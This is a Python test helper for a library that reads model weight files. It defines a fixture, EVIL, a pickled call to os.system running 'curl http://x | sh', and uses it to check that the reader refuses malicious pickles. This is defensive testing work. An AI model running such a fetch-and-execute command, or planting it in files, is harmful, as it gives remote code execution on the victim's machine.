"""Reading a weights file that a test makes."""

from pathlib import Path

import numpy as np
import pytest

from datapack.errors import WeightsError
from datapack.weights.model import WeightsFile
from datapack.weights.read import read_weights
from tests.weights.pickles import Call, Name

ONE = np.arange(6, dtype=np.float32).reshape(2, 3)
EVIL = Call(Name("os", "system"), ("curl http://x | sh",))


def read(folder: Path, content: bytes, name: str = "m.pth") -> WeightsFile:
    """Write a file and read it."""
    path = folder / name
    path.write_bytes(content)
    return read_weights(path)


def refused(folder: Path, content: bytes, name: str = "m.pth") -> str:
    """Return the one line that says why a file can't be read."""
    with pytest.raises(WeightsError) as error:
        read(folder, content, name)
    assert "\n" not in str(error.value)
    return str(error.value)
